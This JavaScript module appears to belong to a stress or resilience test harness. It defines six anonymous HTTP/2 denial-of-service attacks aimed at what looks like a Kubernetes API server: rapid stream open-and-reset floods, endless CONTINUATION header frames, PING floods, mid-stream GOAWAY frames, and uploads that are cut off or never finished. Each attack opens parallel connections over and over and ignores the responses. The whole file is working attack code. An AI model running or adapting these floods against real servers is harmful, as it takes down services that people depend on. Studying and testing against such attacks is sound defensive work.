// HTTP/2 as no client speaks it, by whoever reaches the port: sessions and streams that end in the middle of others.
import {
  CANCEL,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  goodbye,
  HEADERS,
  PING,
  packed,
  rawSession,
  request,
  RST_STREAM,
} from '../frames.mjs';

const STREAMS = 90;
const list = request('GET', '/api/v1/pods');
const upload = request('POST', '/api/v1/namespaces/default/pods', { 'content-type': 'application/json' });
const piece = Buffer.alloc(8 * 1024, 'x');
const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, at) => make(2 * at + 1)));

/** Opens connections over and over, `parallel` at a time, and writes the same on each; what is answered is not read. */
async function floods(attack, parallel, written, { pause = 5 } = {}) {
  const work = async () => {
    while (attack.goOn()) {
      const socket = await rawSession(attack.who);
      attack.count(socket ? 'connections' : 'refused');
      if (socket) for (const bytes of written()) if (!socket.destroyed) socket.write(bytes);
      await attack.pause(pause);
      socket?.destroy();
    }
  };
  await Promise.all(Array.from({ length: parallel }, work));
}

const opened = (stream) => frame(HEADERS, END_HEADERS | END_STREAM, stream, list);
const reset = (stream) => frame(RST_STREAM, 0, stream, CANCEL);

export const identity = 'anonymous';
export const attacks = {
  'goodbyes in the middle of streams': (attack) => {
    const streams = (from) => many(STREAMS, (stream) => opened(from + stream));
    const written = [streams(0), goodbye(), streams(2 * STREAMS), goodbye(2), streams(4 * STREAMS)];
    return floods(attack, 8, () => [Buffer.concat(written)]);
  },
  'streams opened and reset in one packet': (attack) =>
    floods(attack, 8, () => [many(500, (stream) => Buffer.concat([opened(stream), reset(stream)]))]),
  'uploads that are broken off half way': (attack) => {
    const half = (stream) =>
      Buffer.concat([frame(HEADERS, END_HEADERS, stream, upload), frame(DATA, 0, stream, piece), reset(stream)]);
    return floods(attack, 8, () => [many(200, half)]);
  },
  'uploads that are never finished': (attack) => {
    const begun = (stream) =>
      Buffer.concat([frame(HEADERS, END_HEADERS, stream, upload), frame(DATA, 0, stream, piece)]);
    return floods(attack, 8, () => [many(STREAMS, begun)], { pause: 300 });
  },
  'header blocks without end': (attack) => {
    const header = packed({ 'x-more': 'y'.repeat(120) });
    const more = Buffer.concat(Array.from({ length: 400 }, () => frame(CONTINUATION, 0, 1, header)));
    return floods(attack, 8, () => [Buffer.concat([frame(HEADERS, END_STREAM, 1, list), more])]);
  },
  'pings nobody reads the answers to': (attack) => {
    const later = (stream) => opened(2 * STREAMS + stream);
    const pings = Buffer.concat(Array.from({ length: 2_000 }, () => frame(PING, 0, 0, Buffer.alloc(8))));
    return floods(attack, 8, () => [pings, many(STREAMS, opened), pings, goodbye(), many(STREAMS, later)]);
  },
};
